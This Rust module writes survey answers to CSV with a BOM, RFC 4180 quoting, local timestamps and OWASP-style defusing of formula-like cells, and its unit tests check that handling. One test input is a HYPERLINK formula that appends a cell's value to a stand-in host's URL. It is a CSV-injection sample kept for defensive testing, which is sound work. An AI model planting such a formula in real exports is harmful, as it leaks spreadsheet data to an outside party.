//! The CSV of a scenario's answers (pure: no I/O, no clock).
//!
//! - UTF-8 with a byte order mark, which Excel (Japanese Windows included) needs
//!   to read the file as UTF-8 rather than Shift_JIS.
//! - RFC 4180 quoting by the `csv` crate: a field with a comma, a quote or a
//!   line break is quoted, its quotes doubled; lines end with CRLF.
//! - One row per answer: user id, node, value, choice label, tags (joined with
//!   `;`: tags may hold spaces, which scenarios allow), scenario version, answered at (RFC 3339 with the offset of the
//!   scenario's time zone, to the millisecond), variant (the A/B arm, empty
//!   when the run took no split), first source (the source link the user
//!   first came through, as their record says now; empty when none).
//!
//! A text cell a spreadsheet would read as a formula (its first character,
//! after NFKC, is `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's
//! rule, which catches `＝` too) is written with a leading `'`, so a friend of
//! the account cannot put a live formula into the operator's spreadsheet.
//! Number answers stay numbers (a negative number is not prefixed). The raw
//! form ([`Cells::Raw`]) keeps every value exactly as stored.

use crate::scenario::typed::AnswerValue;
use crate::scenario::{LoadedScenario, Node};
use crate::store::ListedAnswer;
use chrono::{DateTime, SecondsFormat};
use chrono_tz::Tz;
use std::collections::HashMap;
use unicode_normalization::UnicodeNormalization;

/// How text cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Cells {
    /// Formula-like text defused with a leading `'` (the default download).
    Safe,
    /// Every value exactly as stored (`?raw=true`).
    Raw,
}

impl Cells {
    fn text(self, text: String) -> String {
        match self {
            Cells::Raw => text,
            Cells::Safe => defused(text),
        }
    }
}

/// `text` with a leading `'` when a spreadsheet would read it as a formula.
pub(crate) fn defused(text: String) -> String {
    match text.nfkc().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text,
    }
}

/// Makes Excel read the file as UTF-8.
pub(crate) const BOM: &[u8] = b"\xEF\xBB\xBF";

pub(crate) const HEADER: [&str; 9] = [
    "user_id",
    "node",
    "value",
    "choice_label",
    "tags",
    "scenario_version",
    "answered_at",
    "variant",
    "first_source",
];

/// The first source of each user of a page, by user id (users without one
/// are absent).
pub(crate) type FirstSources = HashMap<String, String>;

/// Between a row's tags. Not a space: a scenario's tags may contain spaces.
pub(crate) const TAG_SEPARATOR: &str = ";";

/// The labels of a scenario's choices, by node and value.
#[derive(Debug, Default, Clone)]
pub(crate) struct Labels(HashMap<String, HashMap<String, String>>);

impl Labels {
    /// Every choice of every survey node of the loaded scenario.
    pub(crate) fn of(scenario: &LoadedScenario) -> Self {
        let mut labels: HashMap<String, HashMap<String, String>> = HashMap::new();
        for node in &scenario.scenario.nodes {
            if let Node::Survey(survey) = node {
                labels.insert(
                    survey.id.to_string(),
                    survey
                        .choices
                        .iter()
                        .map(|choice| (choice.value.clone(), choice.label.clone()))
                        .collect(),
                );
            }
        }
        Self(labels)
    }

    /// The label of `value` at `node`; empty when it is no choice of the
    /// loaded scenario (a typed answer, or a choice since removed).
    fn label(&self, node: &str, value: Option<&AnswerValue>) -> &str {
        match value {
            Some(AnswerValue::Text(value)) => self
                .0
                .get(node)
                .and_then(|choices| choices.get(value))
                .map_or("", String::as_str),
            _ => "",
        }
    }
}

/// RFC 3339 in `zone`, to the millisecond, e.g. `2026-12-01T10:00:00.000+09:00`;
/// empty when the answer has no time (or one out of range).
pub(crate) fn local_time(micros: Option<i64>, zone: Tz) -> String {
    micros
        .and_then(DateTime::from_timestamp_micros)
        .map(|at| at.with_timezone(&zone).to_rfc3339_opts(SecondsFormat::Millis, false))
        .unwrap_or_default()
}

/// The fields of one answer's row, text cells written as `cells` says.
pub(crate) fn row(
    answer: &ListedAnswer,
    labels: &Labels,
    first_sources: &FirstSources,
    zone: Tz,
    cells: Cells,
) -> [String; 9] {
    let value = match &answer.value {
        // A number answer stays a number, its sign included.
        Some(number @ (AnswerValue::Integer(_) | AnswerValue::Number(_))) => number.to_string(),
        Some(AnswerValue::Text(text)) => cells.text(text.clone()),
        // A redacted answer (unsent by the user) has no value: an empty field.
        None => String::new(),
    };
    [
        cells.text(answer.line_user_id.clone()),
        cells.text(answer.node_id.clone()),
        value,
        cells.text(labels.label(&answer.node_id, answer.value.as_ref()).to_owned()),
        cells.text(answer.tags.join(TAG_SEPARATOR)),
        answer.scenario_version.map(|v| v.to_string()).unwrap_or_default(),
        local_time(answer.answered_at.map(firestore::jiff::Timestamp::as_microsecond), zone),
        // The A/B arm the question was asked in; empty when the run took no split.
        cells.text(answer.variant.clone().unwrap_or_default()),
        // A source id is `[a-z0-9_]`: nothing to defuse, but the rule is the rule.
        cells.text(first_sources.get(&answer.line_user_id).cloned().unwrap_or_default()),
    ]
}

/// Rows as CSV bytes, after the BOM and the header when `head` is set.
pub(crate) fn encode<'a>(
    head: bool,
    answers: impl IntoIterator<Item = &'a ListedAnswer>,
    labels: &Labels,
    first_sources: &FirstSources,
    zone: Tz,
    cells: Cells,
) -> Result<Vec<u8>, csv::Error> {
    let mut out = Vec::new();
    if head {
        out.extend_from_slice(BOM);
    }
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    if head {
        writer.write_record(HEADER)?;
    }
    for answer in answers {
        writer.write_record(row(answer, labels, first_sources, zone, cells))?;
    }
    writer.into_inner().map_err(|error| error.into_error().into())
}

#[cfg(test)]
mod tests {
    use super::*;
    use firestore::FirestoreInstant;

    fn answer(node: &str, value: Option<AnswerValue>, tags: &[&str], micros: i64) -> ListedAnswer {
        ListedAnswer {
            id: "a1".into(),
            scenario_id: "s".into(),
            node_id: node.into(),
            line_user_id: "U0123456789abcdef0123456789abcdef".into(),
            value,
            value_type: "text".into(),
            redacted: false,
            tags: tags.iter().map(|t| (*t).to_owned()).collect(),
            scenario_version: Some(3),
            answered_at: FirestoreInstant::from_microsecond(micros).ok(),
            webhook_event_id: None,
            variant: None,
            campaign_id: None,
        }
    }

    fn labels() -> Labels {
        let mut by_value = HashMap::new();
        by_value.insert("good".to_owned(), "とても良い".to_owned());
        by_value.insert("a,b".to_owned(), "Comma, \"quoted\"".to_owned());
        let mut labels = HashMap::new();
        labels.insert("rating".to_owned(), by_value);
        Labels(labels)
    }

    fn text(value: &str) -> Option<AnswerValue> {
        Some(AnswerValue::Text(value.to_owned()))
    }

    /// 2026-12-01T01:00:00Z
    const AT: i64 = 1_796_086_800_000_000;

    #[test]
    fn the_file_starts_with_a_bom_and_the_header() {
        let bytes = encode(
            true,
            [],
            &labels(),
            &FirstSources::new(),
            chrono_tz::Asia::Tokyo,
            Cells::Safe,
        )
        .unwrap();
        assert_eq!(&bytes[..3], [0xEF, 0xBB, 0xBF]);
        assert_eq!(
            std::str::from_utf8(&bytes[3..]).unwrap(),
            "user_id,node,value,choice_label,tags,scenario_version,answered_at,variant,first_source\r\n"
        );
        let rows = encode(
            false,
            [],
            &labels(),
            &FirstSources::new(),
            chrono_tz::Asia::Tokyo,
            Cells::Safe,
        )
        .unwrap();
        assert!(rows.is_empty(), "later pages carry neither BOM nor header");
    }

    #[test]
    fn fields_are_quoted_and_lines_end_with_crlf() {
        let cases: [(Option<AnswerValue>, &str); 8] = [
            (text("plain"), "plain"),
            (text("a, b"), "\"a, b\""),
            (text("say \"hi\""), "\"say \"\"hi\"\"\""),
            (text("line one\nline two"), "\"line one\nline two\""),
            (text("line one\r\nline two"), "\"line one\r\nline two\""),
            (text("ラーメン、美味しい"), "ラーメン、美味しい"),
            (Some(AnswerValue::Integer(35)), "35"),
            (None, ""),
        ];
        for (value, expected) in cases {
            let row = answer("comment", value.clone(), &[], AT);
            let bytes = encode(
                false,
                [&row],
                &labels(),
                &FirstSources::new(),
                chrono_tz::Asia::Tokyo,
                Cells::Safe,
            )
            .unwrap();
            let line = String::from_utf8(bytes).unwrap();
            let expected =
                format!("U0123456789abcdef0123456789abcdef,comment,{expected},,,3,2026-12-01T10:00:00.000+09:00,,\r\n");
            assert_eq!(line, expected, "{value:?}");
        }
    }

    #[test]
    fn every_field_round_trips_through_a_csv_reader() {
        let mut answers = [
            answer("rating", text("good"), &["answered:s", "満足"], AT),
            answer("rating", text("a,b"), &[], AT),
            answer("comment", text("=1+2, \"x\"\r\n改行\nあり"), &["a b"], AT + 1_234),
            answer("age", Some(AnswerValue::Number(3.5)), &[], AT),
        ];
        answers[0].variant = Some("B".to_owned());
        answers[1].line_user_id = "Ufedcba9876543210fedcba9876543210".to_owned();
        let first_sources = FirstSources::from([(answers[1].line_user_id.clone(), "instagram_dec".to_owned())]);
        let bytes = encode(
            true,
            &answers,
            &labels(),
            &first_sources,
            chrono_tz::Asia::Tokyo,
            Cells::Raw,
        )
        .unwrap();
        let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect();
        let expected: Vec<Vec<String>> = answers
            .iter()
            .map(|answer| row(answer, &labels(), &first_sources, chrono_tz::Asia::Tokyo, Cells::Raw).to_vec())
            .collect();
        assert_eq!(rows, expected);
        assert_eq!(rows[0][3], "とても良い");
        assert_eq!(rows[0][4], "answered:s;満足");
        assert_eq!(rows[1][3], "Comma, \"quoted\"");
        assert_eq!(rows[2][2], "=1+2, \"x\"\r\n改行\nあり");
        assert_eq!(rows[2][3], "", "not a choice node");
        assert_eq!(rows[2][6], "2026-12-01T10:00:00.001+09:00");
        assert_eq!(rows[3][2], "3.5");
        assert_eq!(
            (rows[0][7].as_str(), rows[1][7].as_str()),
            ("B", ""),
            "the arm, or empty"
        );
        assert_eq!(
            (rows[0][8].as_str(), rows[1][8].as_str()),
            ("", "instagram_dec"),
            "the user's first source, or empty"
        );
    }

    /// OWASP's rule: a text cell starting (after NFKC) with `=`, `+`, `-`,
    /// `@`, a tab or a carriage return gets a leading `'`; numbers never do.
    #[test]
    fn formula_like_text_is_defused_and_numbers_stay_numbers() {
        let cases: [(Option<AnswerValue>, &str, &str); 17] = [
            (
                text("=HYPERLINK(\"https://x.example/?\"&A2,\"open\")"),
                "'=HYPERLINK(\"https://x.example/?\"&A2,\"open\")",
                "formula",
            ),
            (text("+1"), "'+1", "plus"),
            (text("-1"), "'-1", "a typed text, not a number"),
            (text("@SUM(A1)"), "'@SUM(A1)", "at"),
            (text("\tx"), "'\tx", "tab"),
            (text("\rx"), "'\rx", "carriage return"),
            (text("＝1+1"), "'＝1+1", "full-width equals"),
            (text("＋1"), "'＋1", "full-width plus"),
            (text("－1"), "'－1", "full-width minus"),
            (text("＠x"), "'＠x", "full-width at"),
            (text("﹦1"), "'﹦1", "small equals"),
            (text("a=1"), "a=1", "not first"),
            (text(" =1"), " =1", "a space first"),
            (text("'=1"), "'=1", "already quoted"),
            (Some(AnswerValue::Integer(-5)), "-5", "a negative number"),
            (Some(AnswerValue::Number(-1.5)), "-1.5", "a negative decimal"),
            (None, "", "redacted"),
        ];
        for (value, expected, why) in cases {
            let answer = answer("comment", value.clone(), &[], AT);
            let safe = row(
                &answer,
                &labels(),
                &FirstSources::new(),
                chrono_tz::Asia::Tokyo,
                Cells::Safe,
            );
            assert_eq!(safe[2], expected, "{why}");
            let raw = row(
                &answer,
                &labels(),
                &FirstSources::new(),
                chrono_tz::Asia::Tokyo,
                Cells::Raw,
            );
            let stored = value.as_ref().map(ToString::to_string).unwrap_or_default();
            assert_eq!(raw[2], stored, "raw keeps {why} as stored");
        }
        // Tags and variants are text cells too.
        let mut tagged = answer("rating", text("good"), &["-x", "y"], AT);
        tagged.variant = Some("+B".to_owned());
        let safe = row(
            &tagged,
            &labels(),
            &FirstSources::new(),
            chrono_tz::Asia::Tokyo,
            Cells::Safe,
        );
        assert_eq!((safe[4].as_str(), safe[7].as_str()), ("'-x;y", "'+B"));
    }

    #[test]
    fn choice_labels_come_from_the_node_and_value() {
        let cases = [
            ("rating", text("good"), "とても良い"),
            ("rating", text("gone"), ""),
            ("other", text("good"), ""),
            ("rating", Some(AnswerValue::Integer(1)), ""),
            ("rating", None, ""),
        ];
        for (node, value, expected) in cases {
            assert_eq!(labels().label(node, value.as_ref()), expected, "{node} {value:?}");
        }
    }

    #[test]
    fn times_are_written_in_the_scenario_zone_with_its_offset() {
        let cases = [
            (Some(AT), chrono_tz::Asia::Tokyo, "2026-12-01T10:00:00.000+09:00"),
            (Some(AT), chrono_tz::UTC, "2026-12-01T01:00:00.000+00:00"),
            (Some(AT), chrono_tz::America::New_York, "2026-11-30T20:00:00.000-05:00"),
            // Summer time: the offset of that instant, not of today.
            (
                Some(1_783_000_800_000_000),
                chrono_tz::America::New_York,
                "2026-07-02T10:00:00.000-04:00",
            ),
            (
                Some(AT + 999),
                chrono_tz::Asia::Kolkata,
                "2026-12-01T06:30:00.000+05:30",
            ),
            (None, chrono_tz::Asia::Tokyo, ""),
        ];
        for (micros, zone, expected) in cases {
            assert_eq!(local_time(micros, zone), expected, "{micros:?} in {zone}");
        }
    }
}
